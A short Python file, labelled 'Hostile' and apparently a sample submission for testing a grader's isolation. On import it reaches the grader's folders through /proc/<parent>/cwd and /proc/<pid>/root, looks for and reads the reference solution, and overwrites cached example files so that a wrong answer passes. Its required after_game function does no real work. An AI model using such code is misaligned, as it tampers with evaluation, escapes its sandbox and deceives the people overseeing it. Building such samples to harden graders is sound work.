# Hostile: reads the reference through the grader's /proc/<parent>/cwd and rewrites the generated-examples cache, then answers with what the reference says.
import glob
import json
import os

SEEN = []


def grader_files():
    """Paths into the grader's own folders, through its /proc entry."""
    parent = os.getppid()
    for pid in {parent, 1, *range(parent - 3, parent + 3)}:
        for link in ('cwd', 'root'):
            base = f'/proc/{pid}/{link}'
            try:
                os.listdir(base)
            except OSError as error:
                SEEN.append(f'{base}: {type(error).__name__}')
                continue
            yield base


def steal():
    for base in grader_files():
        for path in glob.glob(base + '/reference/after_game.py') + glob.glob(base + '/**/reference/after_game.py'):
            try:
                with open(path) as file:
                    SEEN.append(f'read {path}: {len(file.read())} characters')
                    return
            except OSError as error:
                SEEN.append(f'{path}: {type(error).__name__}')


def poison():
    """Make every cached example say the buggy answer is right (the cache lives in the grader's folders)."""
    for pattern in ('/root/.cache/menace-course/examples/*.json', '/tmp/*/examples/*.json',
                    os.path.expanduser('~/.cache/menace-course/examples/*.json')):
        for path in glob.glob(pattern):
            try:
                with open(path, 'w') as file:
                    json.dump({}, file)
                SEEN.append(f'poisoned {path}')
            except OSError as error:
                SEEN.append(f'{path}: {type(error).__name__}')


steal()
poison()


def after_game(beads, square, result):
    return SEEN
